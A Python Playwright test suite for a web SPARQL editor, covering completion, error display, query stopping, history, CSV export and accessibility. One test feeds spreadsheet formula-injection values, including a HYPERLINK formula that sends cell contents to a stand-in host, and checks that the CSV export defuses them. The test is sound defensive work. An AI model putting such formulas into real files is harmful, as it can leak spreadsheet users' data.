"""The SPARQL editor: completion from the graph, errors in place, a stop that stops, what was asked before."""

from __future__ import annotations

import csv
import time

import pytest
from test_craft import AXE, violations

pytestmark = pytest.mark.slow
SCRIPTS = """
performance.getEntriesByType("resource").filter((one) => one.name.endsWith(".js"))
  .reduce((sum, one) => sum + one.decodedBodySize, 0)
"""
SPARQL_PART = "**/chunk-*.js"
"""What the page loads when somebody writes SPARQL."""
ENDLESS = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l FILTER(?c != ?l) }"


def editing(tab, query: str | None = None):
    tab.go("/ask#sparql?.run=no").page.wait_for_selector(".cm-content")
    if query is not None:
        put(tab, query)
    return tab


def put(tab, query: str) -> None:
    """Take the place of all that is in the editor."""
    tab.page.click(".cm-content")
    tab.page.keyboard.press("Control+A")
    tab.page.keyboard.press("Delete")
    tab.page.keyboard.insert_text(query)


def text(tab) -> str:
    return "\n".join(tab.page.locator(".cm-line").all_inner_texts())


def run(tab):
    tab.page.click("[data-run]")
    tab.page.wait_for_selector(".results:not([hidden]), .said .failed")
    return tab


def test_a_query_is_run_and_its_address_restores_it(visit):
    tab = run(editing(visit(), "SELECT ?s WHERE { ?s a <https://w3id.org/aikg/ns#Policy> } ORDER BY ?s"))
    rows = tab.page.locator(".rows tbody tr").count()
    assert rows >= 3
    again = visit().go(tab.page.url.removeprefix(tab.url))
    again.page.wait_for_selector(".rows")
    assert again.page.locator(".rows tbody tr").count() == rows
    assert "Policy" in text(again)


def test_typing_over_all_of_it_writes_no_styles(visit):
    """The tab watches for violations of the policy, which the browser's own style="…" would be."""
    tab = editing(visit())
    tab.page.click(".cm-content")
    for typed in ("ASK {", "S", "SELECT"):
        tab.page.keyboard.press("Control+A")
        tab.page.keyboard.type(typed)
        tab.page.wait_for_timeout(200)
    assert text(tab) == "SELECT"
    tab.page.keyboard.press("Control+A")
    tab.page.keyboard.type("(")
    assert text(tab) == "(SELECT)", "a bracket closes around what is chosen"


def test_words_of_the_graph_complete_and_bring_their_prefix(visit):
    tab = editing(visit(), "SELECT * WHERE { ?claim ")
    tab.page.keyboard.type("aikg:invest", delay=30)
    tab.page.locator(".cm-tooltip-autocomplete li", has_text="aikg:investor").first.wait_for()
    assert text(tab).startswith("PREFIX aikg: <https://w3id.org/aikg/ns#>"), "the prefix comes with its use"
    tab.page.wait_for_timeout(200)
    tab.page.keyboard.press("Enter")
    assert "?claim aikg:invest" in text(tab)
    tab.page.keyboard.type(" ?cl", delay=30)
    tab.page.locator(".cm-tooltip-autocomplete li", has_text="?claim").wait_for()


def test_an_entity_is_found_by_any_of_its_names(visit):
    tab = editing(visit(), "SELECT * WHERE { ")
    tab.page.keyboard.insert_text("智谱")
    tab.page.keyboard.press("Control+Space")
    option = tab.page.locator(".cm-tooltip-autocomplete li", has_text="organization:zhipu-ai")
    option.wait_for()
    option.click()
    assert "<https://w3id.org/aikg/id/organization/zhipu-ai>" in text(tab)


def test_an_error_is_shown_at_its_line_and_column(visit):
    tab = run(editing(visit(), "SELECT *\nWHERE { ?s ?p }"))
    told = tab.page.inner_text(".said .failed")
    assert "Line 2, column 16: this cannot stand here" in told, told
    assert tab.page.locator(".cm-lintRange-error, .cm-lintPoint-error").count() >= 1
    tab.page.locator(".said .failed button").click()
    assert tab.page.evaluate("document.querySelector('.editor').shadowRoot.activeElement !== null"), "it leads there"
    put(tab, "SELECT * WHERE { ?s ?p ?o } LIMIT 3")
    run(tab)
    tab.page.wait_for_selector(".rows")
    assert tab.page.locator(".cm-lintRange-error, .cm-lintPoint-error").count() == 0
    tab.problems[:] = [problem for problem in tab.problems if "status of 400" not in problem]


def test_stop_ends_the_work_on_the_server(visit, news):
    tab = editing(visit(), ENDLESS)
    tab.page.click("[data-run]")
    news.until_busy()
    tab.page.get_by_role("button", name="Stop", exact=True).click()
    tab.said("Stopped")
    end = time.monotonic() + 30
    while "aikg_readers_busy 0.0" not in news.http.get("/metrics").text:
        assert time.monotonic() < end, "a reader is still at work"
        time.sleep(0.1)
    before = news.cpu_s()
    time.sleep(2)  # what is measured is that nothing happens
    assert news.cpu_s() - before < 1.0, "a processor is burnt for nobody"
    put(tab, "ASK { ?s ?p ?o }")
    run(tab)
    assert "true" in tab.page.inner_text(".rows")


def test_the_limit_of_time_can_be_lowered(visit):
    tab = editing(visit(), ENDLESS)
    tab.page.select_option("#seconds", "2")
    run(tab)
    assert "time-out" in tab.page.inner_text(".said .failed")
    assert ".seconds=2" in tab.page.url
    tab.problems[:] = [problem for problem in tab.problems if "status of 504" not in problem]


def test_triples_and_rows_with_ends_are_graphs(visit):
    tab = run(editing(visit(), "DESCRIBE <https://w3id.org/aikg/id/organization/xai>"))
    tab.page.wait_for_selector(".drawn:not([aria-busy]) canvas")
    tab.page.click("[data-form=table]")
    tab.page.wait_for_selector(".rows")
    assert tab.page.locator("th").all_inner_texts() == ["subject", "predicate", "object"]
    names = tab.page.locator(".files button").all_inner_texts()
    assert {"turtle", "n-triples", "json-ld"} <= set(names)
    put(tab, "SELECT ?source ?target WHERE { GRAPH ?claim { ?source <https://w3id.org/aikg/ns#developedBy> ?target } }")
    run(tab)
    tab.page.click("[data-form=graph]")
    tab.page.wait_for_selector(".drawn:not([aria-busy]) canvas")


def test_an_example_is_the_catalogues_own_and_runs(visit):
    tab = editing(visit())
    tab.page.select_option(".sparql .bar select >> nth=0", "queries/ranking")
    tab.page.locator(".cm-line", has_text="#+ summary").wait_for()
    run(tab)
    assert tab.page.locator(".rows tbody tr").count() > 3
    assert tab.page.locator(".sparql optgroup option").count() > 50


def test_the_history_stays_in_the_browser_and_can_be_forgotten(visit):
    tab = run(editing(visit(), "ASK { <urn:first> ?p ?o }"))
    put(tab, "ASK { <urn:second> ?p ?o }")
    run(tab)
    tab.page.click(".history summary")
    past = tab.page.locator(".past li")
    past.nth(1).wait_for()
    assert past.count() == 2 and "urn:second" in past.first.inner_text()
    past.nth(1).get_by_role("button").click()
    assert "urn:first" in text(tab)
    tab.page.get_by_role("button", name="Forget all").click()
    assert past.count() == 0
    assert tab.page.evaluate("localStorage.getItem('aikg.queries')") == "[]"


def test_a_file_of_the_answer(visit):
    tab = run(editing(visit(), "SELECT ?s WHERE { ?s a <https://w3id.org/aikg/ns#Policy> }"))
    with tab.page.expect_download() as started:
        tab.page.get_by_role("button", name="csv", exact=True).click()
    lines = started.value.path().read_text(encoding="utf-8").split()
    assert lines[0] == "s" and len(lines) == 1 + tab.page.locator(".rows tbody tr").count()


def test_no_cell_of_a_file_runs_in_a_spreadsheet(visit):
    texts = ["=1+1", '=HYPERLINK("http://x/?"&A1)', "a,=1", "two\\n=lines", "@x", "+800 k", "-4.5", "plain"]
    values = " ".join("'" + text + "'" for text in texts)
    tab = run(editing(visit(), f"SELECT ?t WHERE {{ VALUES ?t {{ {values} }} }}"))
    with tab.page.expect_download() as started:
        tab.page.get_by_role("button", name="csv", exact=True).click()
    with started.value.path().open(encoding="utf-8", newline="") as file:
        (_, *rows) = csv.reader(file)
    wanted = ["'=1+1", '\'=HYPERLINK("http://x/?"&A1)', "a,=1", "two\n=lines", "'@x", "'+800 k", "-4.5", "plain"]
    assert [text for (text,) in rows] == wanted


def test_an_editor_that_does_not_come_is_told(visit):
    tab = visit().go("/ask")
    tab.page.wait_for_selector(".first a")
    tab.page.route(SPARQL_PART, lambda route: route.abort())
    tab.page.click(".button.sparql")
    tab.page.wait_for_selector(".question .failed")
    tab.page.unroute(SPARQL_PART)
    tab.page.get_by_role("button", name="Try again").click()
    tab.page.wait_for_selector(".cm-content")
    tab.problems[:] = [problem for problem in tab.problems if "ERR_FAILED" not in problem]


def test_what_the_server_cut_is_told(visit, crowd):
    tab = run(editing(visit(url=crowd.url), "SELECT (1 AS ?n) WHERE { ?a a ?x . ?b a ?x } LIMIT 150000"))
    assert "cut at 100,000" in tab.page.inner_text(".told")


def test_nothing_is_loaded_from_elsewhere_and_the_editor_only_when_wanted(visit):
    tab = visit()
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.go("/ask").page.wait_for_selector(".first a")
    before = len(asked)
    sizes = tab.page.evaluate(SCRIPTS)
    assert sizes < 150_000, "neither the editor nor the picture is loaded before it is wanted"
    tab.page.click(".button.sparql")
    tab.page.wait_for_selector(".cm-content")
    assert len(asked) > before
    assert all(url.startswith(tab.url) for url in asked)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_in_the_editor(visit, npm, scheme):
    tab = run(editing(visit(color_scheme=scheme), "SELECT * WHERE { ?s ?p ?o } LIMIT 3"))
    tab.page.click(".history summary")
    assert violations(tab, AXE.read_text(encoding="utf-8")) == []


def test_one_escape_closes_the_completions_and_lets_the_tab_key_leave(visit):
    tab = editing(visit(), "SELECT * WHERE { ?s aik")
    tab.page.keyboard.press("Control+Space")
    tab.page.wait_for_selector(".cm-tooltip-autocomplete")
    tab.page.keyboard.press("Escape")
    tab.page.wait_for_selector(".cm-tooltip-autocomplete", state="detached")
    tab.page.keyboard.press("Tab")
    assert tab.page.evaluate("document.activeElement.hasAttribute('data-run')")


def test_the_keyboard_alone_runs_and_leaves(visit):
    tab = editing(visit(), "ASK { ?s ?p ?o }")
    tab.page.keyboard.press("Control+Enter")
    tab.page.wait_for_selector(".rows")
    tab.page.keyboard.press("Escape")
    tab.page.keyboard.press("Tab")
    assert tab.page.evaluate("document.activeElement.hasAttribute('data-run')")
